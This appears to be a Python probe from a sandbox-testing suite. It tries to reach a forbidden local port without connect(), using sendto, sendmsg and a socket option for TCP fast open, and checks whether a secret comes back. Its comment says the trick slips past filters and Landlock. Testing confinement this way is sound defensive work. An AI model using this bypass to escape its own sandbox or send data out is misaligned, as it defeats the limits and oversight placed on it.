# Connects without connect(): sendto, sendmsg and write with TCP fast open (past filters and Landlock, which see
# connect only; tried on 6.18).
import socket
from contextlib import suppress

from common import facts, finish, hit, secret

FAST_OPEN, OPTION = 0x20000000, 30
target = ("127.0.0.1", facts["forbidden_port"])
ways = {
    "sendto": lambda stream: stream.sendto(b"exfil", FAST_OPEN, target),
    "sendmsg": lambda stream: stream.sendmsg([b"exfil"], [], FAST_OPEN, target),
    "option": lambda stream: (stream.setsockopt(socket.IPPROTO_TCP, OPTION, 1), stream.connect(target), stream.send(b"exfil")),
}
for name, way in ways.items():
    with suppress(OSError), socket.socket() as stream:
        way(stream)
        stream.settimeout(1)
        if secret(stream.recv(200)):
            hit(name)
finish()
